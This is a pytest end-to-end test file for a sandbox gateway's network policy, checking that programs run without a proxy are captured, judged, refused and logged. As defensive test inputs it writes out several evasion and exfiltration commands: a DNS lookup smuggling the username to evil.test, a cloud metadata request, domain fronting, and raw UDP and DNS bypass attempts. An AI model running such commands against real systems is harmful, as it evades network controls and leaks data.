"""Programs that know no proxy, for real: captured, named by policy DNS, judged like all others; and attacks.

Every refusal is checked three ways: nothing arrived at a listener of ours, the log says so, the program was told.
"""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator

import pytest

from pyopenshell.client import Gateway
from tests.e2e.house import HOST, House, house, sh, within
from tests.e2e.test_denials import first_chunk

pytestmark = [pytest.mark.e2e, pytest.mark.xdist_group("doors")]

DATABASE = "db.e2e.test"
POLICY = f"""\
version: 1
filesystem_policy:
  include_workdir: true
  read_only: [/usr, /lib, /proc, /dev/urandom, /etc, /var/log]
  read_write: [/tmp, /dev/null]
network_policies:
  api:
    endpoints: [{{host: {HOST}, port: 443, protocol: rest, access: read-only}}]
    binaries: [{{path: /usr/bin/curl}}, {{path: "/**/node"}}, {{path: "/**/git-remote-http"}}]
  database:
    endpoints: [{{host: {DATABASE}, port: 5432, protocol: tcp}}]
    binaries: [{{path: "/**/python3*"}}]
"""
BARE = "env -u ALL_PROXY -u HTTP_PROXY -u HTTPS_PROXY -u http_proxy -u https_proxy -u grpc_proxy -u NODE_USE_ENV_PROXY"


@pytest.fixture(scope="module")
def database() -> Iterator[tuple[int, list[bytes]]]:
    """A server that speaks first and says back what it heard."""
    heard: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:

        def serve() -> None:
            while True:
                try:
                    connection, _ = server.accept()
                except OSError:
                    return
                with connection:
                    connection.sendall(b"hello from the database\n")
                    heard.append(connection.recv(100))
                    connection.sendall(b"you said " + heard[-1])

        thread = threading.Thread(target=serve, daemon=True)
        thread.start()
        yield server.getsockname()[1], heard
        server.shutdown(socket.SHUT_RDWR)
        thread.join(5)


@pytest.fixture(scope="module")
def home(database: tuple[int, list[bytes]]) -> Iterator[House]:
    override = f'host = "{DATABASE}"\nport = 5432\naddress = "127.0.0.1:{database[0]}"\n'
    with house(extra_config="[[openshell.gateway.connect_to]]\n" + override) as installation:
        installation.create("bare", POLICY)
        yield installation


async def logged(gateway: Gateway, text: str) -> bool:
    script = f"timeout 10 grep -m1 -F -e '{text}' <(exec tail -n +1 -F /var/log/openshell.*.log 2>/dev/null)"
    return (await sh(gateway, "bare", script)).code == 0


@pytest.mark.parametrize(
    "command",
    [
        f"curl -sS -m 9 --noproxy '*' https://{HOST}/x",
        f"curl -6 -sS -m 9 https://{HOST}/x",
        f"curl -4 -sS -m 9 https://{HOST}/x",
        f"curl -sS -m 9 -x socks5h://10.200.0.1:3128 https://{HOST}/x",
        f"curl -sS -m 9 -x socks5://10.200.0.1:3128 https://{HOST}/x",
        f"node -e \"fetch('https://{HOST}/x').then(r => r.text()).then(t => process.stdout.write(t))\"",
        f"node -e \"require('https').get('https://{HOST}/x', r => r.pipe(process.stdout))\"",
    ],
)
async def test_what_policy_allows_works_without_a_proxy(home: House, gateway: Gateway, command: str) -> None:
    before = home.upstream.seen("GET", "/x")
    ran = await sh(gateway, "bare", f"{BARE} {command}")
    assert (ran.out, ran.code) == ("ok\n", 0), ran
    assert home.upstream.seen("GET", "/x") == before + 1


async def test_and_is_inspected_all_the_same(home: House, gateway: Gateway) -> None:
    before = len(home.upstream.requests)
    other = f"curl --noproxy '*' -sS -H 'Host: evil.test' https://{HOST}/"
    ran = await sh(gateway, "bare", f"{BARE} curl -sS -X DELETE https://{HOST}/x; {other}")
    assert '"failed_condition": "method_not_allowed"' in ran.out, ran
    assert '"error": "request_authority_mismatch"' in ran.out, ran
    assert len(home.upstream.requests) == before
    assert await logged(gateway, f"DENIED DELETE http://{HOST}:443/x [policy:api engine:l7]")


async def test_a_raw_endpoint_speaks_first_and_is_relayed_as_it_is(
    home: House, gateway: Gateway, database: tuple[int, list[bytes]]
) -> None:
    script = (
        f"import socket; s = socket.create_connection(('{DATABASE}', 5432), 9); f = s.makefile('rb'); "
        "print(f.readline()); s.sendall(b'\\\\0select'); print(f.read())"
    )
    ran = await sh(gateway, "bare", f'{BARE} python3 -c "{script}"')
    assert ran.out == "b'hello from the database\\n'\nb'you said \\x00select'\n", ran
    assert database[1][-1] == b"\0select"
    assert await logged(gateway, f"-> {DATABASE}:5432 [policy:database engine:opa]")


@pytest.mark.parametrize(
    ("command", "told", "line"),
    [
        # Another program, another port, another name, no name at all: in HTTP, in TLS, in nothing that we know.
        # (The last one is reset so fast that curl may see it while it still connects.)
        (f"wget -nv -O- -T 9 http://{DATABASE}:5432/", "403", f"wget(PID) -> {DATABASE}:5432 [policy:- engine:opa]"),
        (f"curl -sS http://{HOST}/", '"failed_condition": "port_not_allowed"', f"curl(PID) -> {HOST}:80 [policy:-"),
        ("curl -sS http://192.0.2.7/", '"failed_condition": "host_not_allowed"', "curl(PID) -> 192.0.2.7:80 [policy:-"),
        ("curl -sS http://[2001:db8::7]/", '"host": "2001:db8::7"', "curl(PID) -> [2001:db8::7]:80 [policy:-"),
        ("curl -sSk https://169.254.169.254/", "alert access denied", "curl(PID) -> 169.254.169.254:443 [policy:-"),
        ("curl -sS --resolve evil.test:80:192.0.2.7 http://evil.test/", '"host": "evil.test"', "-> evil.test:80 ["),
        ("curl -sSk --resolve evil.test:443:192.0.2.7 https://evil.test/", "alert access denied", "-> evil.test:443 ["),
        ("curl -sS https://evil.test/", "Could not resolve host", "evil.test/dns [policy:- engine:dns]"),
        ("curl -sS http://$(id -un).evil.test/", "Could not resolve host", "sandbox.evil.test/dns [policy:-"),
        ("curl -sSk https://policy.local/", "alert access denied", "policy.local:443 [msg:Use http://policy.local"),
        ("curl -sS http://127.0.0.1:15001/", "curl: (", "connection to the port of captured connections refused"),
    ],
)  # fmt: skip
async def test_what_it_does_not_allow_is_told_in_the_programs_own_language(
    home: House, gateway: Gateway, database: tuple[int, list[bytes]], command: str, told: str, line: str
) -> None:
    before = len(home.upstream.requests), len(database[1])
    ran = await sh(gateway, "bare", f"{BARE} timeout 9 {command} 2>&1")
    assert told in ran.out, ran
    assert (len(home.upstream.requests), len(database[1])) == before
    assert await logged(gateway, line.partition("(PID)")[2] or line)


async def test_a_name_at_an_address_of_ones_own_leads_to_the_name(home: House, gateway: Gateway) -> None:
    before = home.upstream.seen("GET", "/own")
    ran = await sh(gateway, "bare", f"{BARE} curl -sS --resolve {HOST}:443:192.0.2.7 https://{HOST}/own")
    assert ran.out == "ok\n", ran
    assert home.upstream.seen("GET", "/own") == before + 1


async def test_a_fronted_name_does_not_pass(home: House, gateway: Gateway) -> None:
    """DNS says one name, the ClientHello another: the connection is the first one's."""
    before = len(home.upstream.requests)
    ran = await sh(gateway, "bare", f"{BARE} curl -sSk --connect-to ::{HOST}:443 https://evil.test/ 2>&1")
    assert "unrecognized name" in ran.out, ran
    assert len(home.upstream.requests) == before


async def test_a_silent_client_of_a_refused_destination_is_reset(gateway: Gateway) -> None:
    script = "import socket; s = socket.create_connection(('192.0.2.7', 22), 9); print(s.recv(1))"
    ran = await sh(gateway, "bare", f'{BARE} python3 -c "{script}" 2>&1')
    assert "ConnectionResetError" in ran.out, ran
    assert await logged(gateway, "-> 192.0.2.7:22 [policy:- engine:opa]")


async def test_no_datagram_finds_a_way_and_the_log_names_the_host(gateway: Gateway) -> None:
    ran = await sh(gateway, "bare", f"echo x > /dev/udp/{HOST}/443; echo x > /dev/udp/192.0.2.7/4433")
    assert ran.err.count("Operation not permitted") == 2, ran
    assert await logged(gateway, f"NET:REFUSE [MED] DENIED {HOST}:443/udp [policy:bypass-detect engine:nftables]")


async def test_every_server_is_policy_dns(home: House, gateway: Gateway) -> None:
    """A query to any resolver, loopback ones included, over UDP and TCP."""
    script = f"""
import socket, struct
name = b"".join(bytes([len(l)]) + l for l in b"{HOST}".split(b".")) + b"\\0"
query = b"\\0\\7\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + name + b"\\0\\1\\0\\1"
for server in ("192.0.2.53", "127.0.0.53", "10.200.0.1", "2001:db8::53", "::1"):
    family = socket.AF_INET6 if ":" in server else socket.AF_INET
    udp = socket.socket(family, socket.SOCK_DGRAM); udp.settimeout(9); udp.sendto(query, (server, 53))
    tcp = socket.create_connection((server, 53), 9); tcp.sendall(struct.pack("!H", len(query)) + query)
    print(socket.inet_ntoa(udp.recv(512)[-4:]), socket.inet_ntoa(tcp.recv(512)[-4:]))
"""
    ran = await sh(gateway, "bare", f"python3 - <<'EOF'\n{script}\nEOF")
    assert len(ran.out.split()) == 10, ran
    assert all(address.startswith("198.18.0.") for address in ran.out.split()), ran
    assert len(set(ran.out.split())) == 1


async def test_policy_local_without_a_proxy_on_port_80_only(home: House, gateway: Gateway) -> None:
    home.cli("settings", "set", "bare", "--key", "agent_policy_proposals_enabled", "--value", "true")
    ran = await sh(gateway, "bare", f"{BARE} curl -sS http://policy.local/v1/policy/current")
    assert '"format": "yaml"' in ran.out, ran
    ran = await sh(gateway, "bare", f"{BARE} curl -sS -m 5 http://policy.local:8080/v1/policy/current")
    assert '"error": "invalid_policy_local_scheme"' in ran.out, ran


async def test_approving_a_captured_refusal_makes_the_program_work(home: House, gateway: Gateway) -> None:
    """wget may not reach the API; the refusal becomes a draft; approved, wget works, and still knows no proxy."""
    home.create("draft", POLICY)
    attempt = f"{BARE} wget -qO- -T 9 https://{HOST}/by-wget"
    assert (await sh(gateway, "draft", attempt)).code != 0
    async with within(10):
        chunk = await first_chunk(gateway, "draft", HOST)
    assert (chunk.binary, chunk.status) == ("/usr/bin/wget", "pending")
    home.cli("rule", "approve", "draft", "--chunk-id", chunk.id)
    log = "<(exec tail -n +1 -F /var/log/openshell.*.log 2>/dev/null)"
    ran = await sh(gateway, "draft", f"timeout 10 grep -qm1 'CONFIG:LOADED .* reloaded' {log}; {attempt}")
    assert ran.out == "ok\n", ran


async def test_addresses_and_names_are_observed_not_drafted(home: House, gateway: Gateway) -> None:
    home.create("seen", POLICY)
    script = f"{BARE} curl -sS http://192.0.2.7/; {BARE} curl -sS http://evil.test/"
    found: set[tuple[str, str]] = set()
    async with within(20):
        async for event in gateway.watch_inbox("seen"):
            assert event.chunk is None
            if event.synced:
                await sh(gateway, "seen", script)
            if event.observed:
                found.add((event.observed.method, event.observed.host))
            if len(found) == 2:
                break
    assert found == {("TCP", "192.0.2.7"), ("DNS", "evil.test")}
    shown = home.cli("rule", "get", "seen").out
    assert "TCP 192.0.2.7:80" in shown
    assert "DNS evil.test\n" in shown
